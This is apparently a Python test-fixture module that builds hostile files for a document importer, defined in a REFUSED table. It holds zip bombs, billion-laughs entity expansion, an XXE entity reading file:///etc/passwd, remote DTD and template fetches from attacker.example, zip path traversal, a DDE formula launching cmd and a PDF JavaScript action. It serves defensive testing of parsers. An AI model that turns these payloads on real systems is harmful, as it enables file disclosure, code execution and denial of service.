"""Hostile files for the importers, by name: bombs, entities, loops, depths, lies about what they are, and damage to good ones."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from itertools import cycle

import pikepdf
from attacks.targets import _data, _page, _whole
from made_pdf import Sheet, made
from sample import EDITION, full_assessment
from word_files import NAMESPACES, p, parts_of, table, tc, tr, word_file, zipped

from generator.render import excel, pdf, web, word
from generator.templates import Templates
from generator.view import view

HUGE = 60_000_000
NEARLY = 19_000_000
"""Bytes just below what a package may unpack to from a few."""


def _bomb(name: str, size: int = HUGE, kind: str = ".docx") -> bytes:
    out = io.BytesIO(zipped(parts_of(_whole(kind))))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package, package.open(name, "w", force_zip64=True) as part:
        for _ in range(size // 1_000_000):
            part.write(b" " * 1_000_000)
    return out.getvalue()


def _lying() -> bytes:
    """Its directory says that a part is small."""
    parts = parts_of(_whole(".docx"))
    data = zipped(parts | {"word/document.xml": parts["word/document.xml"] + b" " * 60_000_000})
    size = struct.pack("<L", len(parts["word/document.xml"]) + 60_000_000)
    return data.replace(size, struct.pack("<L", 1000))


def _overlapping() -> bytes:
    """A thousand entries of its directory are one and the same part."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b" " * 15_000_000)
        first = package.filelist[0]
        package.filelist += [_renamed(first, f"word/x{i}.xml") for i in range(1000)]
    return out.getvalue()


def _renamed(entry: zipfile.ZipInfo, name: str) -> zipfile.ZipInfo:
    other = zipfile.ZipInfo(name)
    for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
        setattr(other, field, getattr(entry, field))
    return other


def _other_method(method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, content in parts_of(_whole(".docx")).items():
            package.writestr(name, content)
    return out.getvalue()


def _document(body: str, before: str = "") -> bytes:
    parts = parts_of(word_file(p("x")))
    content = f'<?xml version="1.0"?>{before}<w:document {NAMESPACES}><w:body>{body}</w:body></w:document>'
    return zipped(parts | {"word/document.xml": content})


def _sheet(rows: str, before: str = "", strings: str = "") -> bytes:
    content = f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    parts = parts_of(_whole(".xlsx")) | {"xl/worksheets/sheet1.xml": content.encode()}
    return zipped(parts | ({"xl/sharedStrings.xml": strings.encode()} if strings else {}))


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _strings(items: str) -> str:
    return f'<sst xmlns="{MAIN}">{items}</sst>'


_SAME = "<row>" + '<c t="s"><v>0</v></c>' * 200 + "</row>"


def _same_sheet() -> bytes:
    """Thousands of its sheets are one and the same part, in which links have to be looked for."""
    parts = parts_of(_whole(".xlsx"))
    book = parts["xl/workbook.xml"].decode()
    id_ = book.partition("<sheet ")[2].partition('r:id="')[2].partition('"')[0]
    sheets = "".join(f'<sheet name="n{i}" sheetId="{i + 1}" r:id="{id_}"/>' for i in range(20_000))
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zipped(
        parts
        | {
            "xl/workbook.xml": f"{book.partition('<sheets>')[0]}<sheets>{sheets}</sheets>{book.partition('</sheets>')[2]}",
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData/>{"<x/>" * 200_000}</worksheet>',
            "xl/worksheets/_rels/sheet1.xml.rels": f'<Relationships xmlns="{relations}"><Relationship Id="a" Type="x" '
            'Target="https://a" TargetMode="External"/></Relationships>',
        }
    )


def _linked_tags() -> bytes:
    """Tags by the million in a sheet in which links have to be looked for."""
    relation = '<Relationship Id="a" Type="x" Target="https://a" TargetMode="External"/>'
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    sheet = f'<worksheet xmlns="{MAIN}"><sheetData/>{"<x/>" * 4_700_000}</worksheet>'
    made_of = {"xl/worksheets/sheet1.xml": sheet, "xl/worksheets/_rels/sheet1.xml.rels": relations}
    return zipped(parts_of(_whole(".xlsx")) | made_of)


def _field(*marks: str) -> str:
    return "".join(f'<w:fldChar w:fldCharType="{mark}"/>' for mark in marks)


_LISTED = p("x", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>')


def _numbering(levels: str, lists: int) -> str:
    kind = '<w:abstractNumId w:val="1"/>'
    each = "".join(f'<w:num w:numId="{i}">{kind}</w:num>' for i in range(1, lists + 1))
    return f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>{each}'


_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12)) + "]>"
_QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'x' * 100_000}'>]>"
_OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_REMOTE = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'


def _pdf(*objects: str, streams: tuple[bytes, ...] = ()) -> bytes:
    """A PDF of these objects, the first of them its root; a reader has to find them itself."""
    data = b"%PDF-1.7\n" + b"".join(f"{i} 0 obj\n{body}\nendobj\n".encode() for i, body in enumerate(objects, 1))
    for i, stream in enumerate(streams, len(objects) + 1):
        data += (
            f"{i} 0 obj\n<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode() + stream + b"\nendstream\nendobj\n"
        )
    return data + b"trailer\n<< /Root 1 0 R >>\n%%EOF"


_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /XObject << /X 4 0 R >> >> >>"
_ROOT = "<< /Type /Catalog /Pages 2 0 R >>"
_DRAWN = "BT /F 12 Tf 50 50 Td (words) Tj ET "


def _plain(content: str, about: str = "") -> str:
    return f"<< /Length {len(content)} {about} >>\nstream\n{content}\nendstream"


def _forms_pdf(deep: int = 8) -> bytes:
    """Forms that draw the next one ten times each."""
    form = "/Type /XObject /Subtype /Form /BBox [0 0 600 800]"
    forms = [_plain("/X Do " * 10, f"{form} /Resources << /XObject << /X {i} 0 R >> >>") for i in range(5, 4 + deep)]
    return _pdf(_ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE, *forms, _plain(_DRAWN, form))


def _drawn_often(pages: int, times: int, words: int) -> bytes:
    """One stream, drawn by every page so many times."""
    page = _PAGE.replace("4 0 R /Resources", f"[{'3 0 R ' * times}] /Resources")
    kids = " ".join(f"{i} 0 R" for i in range(4, 4 + pages))
    return _pdf(_ROOT, f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>", _plain(_DRAWN * words), *[page] * pages)


def _in_hexadecimal(size: int = 90_000_000) -> bytes:
    packed = zlib.compress(_DRAWN.encode() * (size // len(_DRAWN)))
    about = "/Filter [/ASCIIHexDecode /FlateDecode]"
    return _pdf(_ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE, _plain(packed.hex() + ">", about))


def _without_password() -> bytes:
    """Encrypted so that everybody may open it: what it unpacks to does not show."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        page = document.add_blank_page()
        page.contents_add(_DRAWN.encode() * 2_000_000)
        document.save(out, encryption=pikepdf.Encryption(owner="o", user=""))
    return out.getvalue()


_LINK = "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://a) >> >>"


def _text_pdf(text: str, more: str = "") -> bytes:
    page = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 "
        f"/BaseFont /Helvetica >> >> >> {more} >>"
    )
    drawn = zlib.compress(f"BT /F 1 Tf 6 TL 1 0 0 1 0 400 Tm {text} ET".encode())
    return _pdf(_ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, streams=(drawn,))


def _encrypted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(made(Sheet().text(50, 50, "x")))) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def _nearly() -> bytes:
    """Each line a provision's text, but for one word."""
    texts = [provision.text.split() for provision in EDITION.provisions]
    lines = (
        [*words[: i % len(words)], f"x{i}", *words[i % len(words) + 1 :]]
        for i, words in zip(range(25_000), cycle(texts), strict=False)
    )
    return "\n\n".join(map(" ".join, lines)).encode()


def _cells(count: int, across: int = 100) -> str:
    row = "".join("<c><v>1</v></c>" for _ in range(across))
    return f"<row>{row}</row>" * (count // across)


REFUSED: dict[str, Callable[[], bytes]] = {
    "one-part.docx": lambda: _bomb("word/document2.xml"),
    "one-part.xlsx": lambda: _bomb("xl/x.xml", kind=".xlsx"),
    "lying.docx": _lying,
    "overlapping.docx": _overlapping,
    "nested.docx": lambda: zipped({"word/document.xml": zipped({"x.zip": _bomb("x", 30_000_000)})}),
    "thousand-parts.docx": lambda: zipped({f"word/{i}.xml": b" " * 50_000 for i in range(1_000)}),
    "bzip2.docx": lambda: _other_method(zipfile.ZIP_BZIP2),
    "lzma.docx": lambda: _other_method(zipfile.ZIP_LZMA),
    "laughs.docx": lambda: _document(p("<w:r><w:t>&a11;</w:t></w:r>"), _LAUGHS),
    "quadratic.docx": lambda: _document(p(f"<w:r><w:t>{'&a;' * 100_000}</w:t></w:r>"), _QUADRATIC),
    "outside.docx": lambda: _document(p("<w:r><w:t>&a;</w:t></w:r>"), _OUTSIDE),
    "remote.docx": lambda: _document(p("x"), _REMOTE),
    "laughs.xlsx": lambda: _sheet('<row><c t="inlineStr"><is><t>&a11;</t></is></c></row>', _LAUGHS),
    "outside.xlsx": lambda: _sheet('<row><c t="inlineStr"><is><t>&a;</t></is></c></row>', _OUTSIDE),
    "traversal.docx": lambda: zipped({"../../../../tmp/attacked": b"x", "/tmp/attacked": b"x", "C:\\attacked": b"x"}),
    "deep-tables.docx": lambda: _document("<w:tbl><w:tr><w:tc>" * 3_000 + p("x") + "</w:tc></w:tr></w:tbl>" * 3_000),
    "deep-runs.docx": lambda: _document("<w:p>" + "<w:ins>" * 5_000 + "<w:r><w:t>x</w:t></w:r>" + "</w:ins>" * 5_000 + "</w:p>"),
    "paragraphs.docx": lambda: _document("<w:p/>" * (NEARLY // 6)),
    "attribute.docx": lambda: _document(f'<w:p w:x="{"y" * NEARLY}"/>'),
    "attributes.docx": lambda: _document("<w:p" + "".join(f" w:a{i}=''" for i in range(200_000)) + "/>"),
    "one-word.docx": lambda: _document(p("y" * NEARLY)),
    "wide.docx": lambda: _document(table(tr(*(tc("x") for _ in range(60_000))))),
    "spans.docx": lambda: _document(table(tr(tc("x", '<w:gridSpan w:val="999999999"/><w:vMerge/>')))),
    "embedded.docx": lambda: word_file(p("x"), more={"word/embeddings/oleObject1.bin": b"MZ" * 999, "word/vbaProject.bin": b"x"}),
    "macros.docm": lambda: word_file(p("x"), more={"word/vbaProject.bin": b"x" * 999}),
    "template.docx": lambda: word_file(p("x"), links={"t": "https://attacker.example/x.dotm"}),
    "million-cells.xlsx": lambda: _sheet(_cells(1_000_000)),
    "sparse.xlsx": lambda: _sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "widest.xlsx": lambda: _sheet("".join(f'<row r="{i}"><c r="XFD{i}"><v>1</v></c></row>' for i in range(1, 3_000))),
    "strings.xlsx": lambda: _sheet('<row><c t="s"><v>0</v></c></row>', strings=f"<sst><si><t>{'y' * NEARLY}</t></si></sst>"),
    "formulas.xlsx": lambda: _sheet("<row><c><f>1+1</f></c><c><f>cmd|' /C calc'!A0</f><v>2</v></c></row>"),
    "deep.html": lambda: b"<div>" * 100_000 + b"x",
    "deep-tables.html": lambda: b"<table><tr><td>" * 3_000 + b"x",
    "deep-lists.html": lambda: b"<ul><li>" * 10_000 + b"x",
    "attribute.html": lambda: b'<p title="' + b"y" * 10_000_000 + b'">x',
    "attributes.html": lambda: b"<p " + b" ".join(b"a%d=1" % i for i in range(100_000)) + b">x",
    "spans.html": lambda: b"<table><tr><td colspan=999999999 rowspan=999999999>x<td>y</table>",
    "many-spans.html": lambda: b"<table>" + b"<tr><td colspan=1000 rowspan=65534>x" * 3_000 + b"</table>",
    "wide.html": lambda: b"<table><tr>" + b"<td>x" * 100_000,
    "unclosed.html": lambda: b"<b><i><u><a href=x>" * 20_000,
    "entities.html": lambda: b"&lt;&#xD800;&#0;&#x110000;&nosuch;" * 20_000,
    "laughs.html": lambda: f"{_LAUGHS}<p>&a11;".encode(),
    "comment.html": lambda: b"<p>x<!--" + b"-" * 5_000_000,
    "script.html": lambda: b"<script>" + b"x" * 5_000_000,
    "loop.pdf": lambda: _pdf(_ROOT, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    "million-pages.pdf": lambda: _pdf(_ROOT, f"<< /Type /Pages /Kids [{'3 0 R ' * 50_000}] /Count 1000000 >>", _PAGE, "null"),
    "flate.pdf": lambda: _pdf(
        _ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE, streams=(zlib.compress(b"q " * 60_000_000),)
    ),
    "packed-twice.pdf": lambda: _pdf(
        _ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE, streams=(zlib.compress(zlib.compress(b"q " * 60_000_000)),)
    ),
    "nearly-too-much.pdf": lambda: _pdf(
        _ROOT, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE, streams=(zlib.compress(b"q " * 4_990_000),)
    ),
    "itself.pdf": lambda: _pdf(
        _ROOT,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE,
        "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream",
    ),
    "text-bomb.pdf": lambda: made(Sheet().lines(10, 10, *("word " * 20 for _ in range(20_000)), pitch=0.01)),
    "rules-bomb.pdf": lambda: made(_ruled()),
    "huge-page.pdf": lambda: made(Sheet(width=10**9, height=10**9).text(50, 50, "x")),
    "encrypted.pdf": _encrypted_pdf,
    "script.pdf": lambda: _pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>", "<< /Type /Pages /Kids [] /Count 0 >>"
    ),
    "forms.pdf": _forms_pdf,
    "one-stream-500-pages.pdf": lambda: _drawn_often(500, 1, 200_000),
    "one-stream-60-times.pdf": lambda: _drawn_often(1, 60, 200_000),
    "hexadecimal.pdf": _in_hexadecimal,
    "no-password.pdf": _without_password,
    "header-only.pdf": lambda: b"%PDF-1.7",
    "one-line.txt": lambda: b"word " * 9_000_000,
    "lines.txt": lambda: b"x\n" * 500_000,
    "tabs.txt": lambda: b"\t" * 1_000_000 + b"x",
    "surrogates.txt": lambda: b"\xed\xa0\x80" * 1000,
    "nul.txt": lambda: b"x\x00" * 1000,
    "quotes.md": lambda: b">" * 100_000 + b" x",
    "nested.md": lambda: "\n".join("  " * i + "- x" for i in range(2_000)).encode(),
    "brackets.md": lambda: b"[" * 100_000,
    "stars.md": lambda: b"*a **b " * 30_000,
    "pipes.md": lambda: b"|" * 100_000 + b"\n" + b"|-" * 100_000,
    "fields.docx": lambda: word_file(
        "<w:p><w:r>" + _field("begin", "separate") * 60_000 + "<w:tab/>" * 60_000 + "</w:r></w:p>",
    ),
    "instructions.docx": lambda: word_file(
        f"<w:p><w:r>{_field('begin')}{'<w:instrText>xxxxxxxxxxxxxxxxxxxx</w:instrText>' * 400_000}</w:r></w:p>"
    ),
    "levels.docx": lambda: word_file(
        _LISTED, related={"numbering": _numbering("".join(f'<w:lvl w:ilvl="{i}"/>' for i in range(20_000)), 10_000)}
    ),
    "long-mark.docx": lambda: word_file(
        _LISTED * 20_000, related={"numbering": _numbering(f'<w:lvl w:ilvl="0"><w:lvlText w:val="{"y" * 200_000}"/></w:lvl>', 1)}
    ),
    "based-on.docx": lambda: word_file(
        p("x", '<w:pStyle w:val="s0"/>'),
        related={"styles": "".join(f'<w:style w:styleId="s{i}"><w:basedOn w:val="s{i + 1}"/></w:style>' for i in range(100_000))},
    ),
    "long-address.docx": lambda: word_file(
        "<w:p>" + '<w:hyperlink r:id="t" w:anchor="a"><w:r><w:t>x</w:t></w:r></w:hyperlink>' * 3_000 + "</w:p>",
        links={"t": "https://attacker.example/" + "y" * 2_000_000},
    ),
    "same-text.xlsx": lambda: _sheet(_SAME, strings=_strings(f"<si><t>{'word ' * 1_000_000}</t></si>")),
    "same-lines.xlsx": lambda: _sheet(_SAME * 20, strings=_strings("<si><t>" + "x\n" * 20_000 + "</t></si>")),
    "same-sheet.xlsx": _same_sheet,
    "linked-tags.xlsx": _linked_tags,
    "many-styles.xlsx": lambda: zipped(
        parts_of(_whole(".xlsx"))
        | {"xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><cellXfs>{"<xf/>" * 3_800_000}</cellXfs></styleSheet>'}
    ),
    "down.html": lambda: b"<table><tr>" + b"<td colspan=30 rowspan=999>x" * 3_400 + b"<tr><td>x" * 998 + b"</table>",
    "tags.html": lambda: b"<p>" * 9_000_000,
    "pieces.html": lambda: b"<p>" + b"a" * 5_000_000 + b"a<u></u>" * 300_000,
    "list-marks.html": lambda: b'<div style="mso-list:l0 level1">' * 240 + b"<u>x</u>" * 490_000,
    "rule.txt": lambda: b"-" * 100_000 + b"x",
    "bold.txt": lambda: b"<br>\n" * 3 + b"<b>" * 100_000,
    "spaces.txt": lambda: "☐\nyes{}x".format("\u00a0" * 100_000).encode(),
    "again.txt": lambda: f"{min((provision.text for provision in EDITION.provisions), key=len)}\nYes\n".encode() * 45_000,
    "nearly.txt": _nearly,
    "days.txt": lambda: b"".join(b"In %d days\n\n" % i for i in range(99_000)),
    "links.pdf": lambda: _text_pdf("(a b c d e f g h i j)'" * 500, f"/Annots [{_LINK * 10_000}]"),
    "marks.pdf": lambda: b"%PDF-1.7\n" + b"stream\n" * 700_000 + b"stream\nx\x9c" * 200_000,
    "one-line.pdf": lambda: _text_pdf("(a)Tj 3 0 Td " * 60_000),
    "deep.json": lambda: b"[" * 100_000 + b"]" * 100_000,
    "number.json": lambda: b'{"a":' + b"9" * 100_000 + b"}",
    "surrogate.json": lambda: b'{"format": "\\ud800", "answers": [{"provision": "\\udfff"}]}',
    "strange.json": lambda: b'{"format": 1e999, "answers": {"a": null}, "landlord": []}',
    "encrypted.docx": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 600
    ),
    "old.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000,
    "word.xlsx": lambda: _whole(".docx"),
    "excel.docx": lambda: _whole(".xlsx"),
    "pdf.docx": lambda: made(Sheet().text(50, 50, "x")),
    "page.pdf": _page,
    "pdf.html": lambda: made(Sheet().text(50, 50, "x")),
    "word.html": lambda: _whole(".docx"),
    "word.txt": lambda: _whole(".docx"),
    "word.json": lambda: _whole(".docx"),
    "page.json": _page,
    "program.docx": lambda: b"MZ" + bytes(5_000),
    "nothing.docx": lambda: b"",
    "spaces.html": lambda: b" \n" * 100,
    "empty.docx": lambda: zipped({}),
    "other-subject.txt": lambda: b"Dear all,\n\nthe meeting is on Monday.\n",
    "unknown.exe": lambda: b"MZ",
}
"""Files that are no self-assessment, whatever else they are."""


def _ruled() -> Sheet:
    sheet = Sheet()
    for i in range(3_000):
        sheet = sheet.rule(10, 10 + i / 5, 500, 10.1 + i / 5).rule(10 + i / 5, 10, 10.1 + i / 5, 700)
    return sheet


GOOD = ("ours.docx", "ours.xlsx", "ours.pdf", "ours.html", "ours.json", "theirs.docx", "theirs.xlsx", "theirs.html")


@cache
def good() -> dict[str, bytes]:
    """Documents of our own and of others', which can all be imported."""
    answered = full_assessment()
    drawn = tuple(
        answer for answer in answered.answers if answer.provision not in ("1.2", "6.3")
    )  # the PDF's fonts lack signs there
    shown, templates = view(EDITION, replace(answered, answers=drawn)), Templates()
    ours = {
        "ours.docx": next(iter(word.render(shown, templates).values())),
        "ours.xlsx": next(iter(excel.render(shown, templates).values())),
        "ours.pdf": next(iter(pdf.render(shown, templates).values())),
        "ours.html": next(data for name, data in web.fragments(shown, templates).items() if name.endswith(".html")),
        "ours.json": _data(),
    }
    return ours | {"theirs.docx": _whole(".docx"), "theirs.xlsx": _whole(".xlsx"), "theirs.html": _page()}


def damaged(each: int) -> Iterator[tuple[str, bytes]]:
    """The good documents cut off at many places, and with bits turned over in others; always the same."""
    chance = random.Random(1)
    for name, data in good().items():
        stem, _, kind = name.rpartition(".")
        for i in range(each):
            cut = len(data) * (i + 1) // (each + 1)
            yield f"{stem}-cut-{i}.{kind}", data[:cut]
            turned = bytearray(data)
            for _ in range(1 + i % 20):
                turned[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
            yield f"{stem}-turned-{i}.{kind}", bytes(turned)
